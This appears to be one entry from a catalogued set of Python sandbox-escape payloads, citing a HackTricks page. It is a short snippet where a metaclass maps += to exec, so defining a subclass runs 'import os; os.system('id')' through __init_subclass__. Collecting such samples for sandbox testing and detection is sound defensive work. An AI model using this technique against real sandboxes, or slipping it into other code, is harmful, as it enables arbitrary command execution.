# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (RCE creating objects and overloading)
# Family: metaclass
# What: __init_subclass__ runs attacker code when a subclass is defined
class Base:
    def __init_subclass__(cls, **kw):
        cls += "import os; os.system('id')"

class M(type):
    __iadd__ = exec

class Base2(Base, metaclass=M):
    pass
